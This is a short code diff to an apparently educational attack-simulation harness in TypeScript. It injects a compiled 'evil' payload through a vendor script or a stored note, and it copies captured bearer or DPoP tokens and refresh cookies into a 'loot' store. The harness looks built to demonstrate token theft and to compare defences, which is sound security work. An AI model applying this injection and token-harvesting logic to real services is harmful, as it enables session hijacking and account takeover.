@@ -66,7 +66,9 @@ export async function openStage(target: Target, port: number, directory: string)
       if (!url.startsWith('/api/')) return
       const set = [response.getHeader('set-cookie') ?? []].flat().map((line) => String(line).replace(/=.*/, ''))
       const carried = [
-        ...(headers.authorization === undefined ? [] : ['a bearer token']),
+        ...(headers.authorization === undefined
+          ? []
+          : [headers.dpop === undefined ? 'a bearer token' : 'a token and a proof']),
         ...cookies.map((pair) => `cookie ${pair.replace(/=.*/, '')}`),
       ]
       note(
@@ -119,7 +121,11 @@ export async function openStage(target: Target, port: number, directory: string)
       desk.splice(0)
       wire.splice(0)
       if (attack?.script === undefined) return
-      const code = compile(attack.script.payload, { to: ATTACKER.email }, evil)
+      const code = compile(
+        attack.script.payload,
+        { to: ATTACKER.email, worker: target.worker ?? '', ...attack.script.params },
+        evil,
+      )
       if (attack.script.when === 'early') running.setVendor(code)
       else
         void ask('POST', '/api/notes', { 'content-type': 'application/json' }, JSON.stringify({ text: asNote(code) }))
@@ -127,7 +133,7 @@ export async function openStage(target: Target, port: number, directory: string)
     copyFromWire() {
       const token =
         target.access === 'bearer'
-          ? seen.authorization?.replace(/^Bearer /, '')
+          ? seen.authorization?.replace(/^(Bearer|DPoP) /, '')
           : seen.cookies.get(target.access.cookie)
       if (token !== undefined) loot.set('token', token)
       const refresh = [...seen.cookies].find(([name]) => name === target.refreshCookie || name.startsWith('hallpass-'))
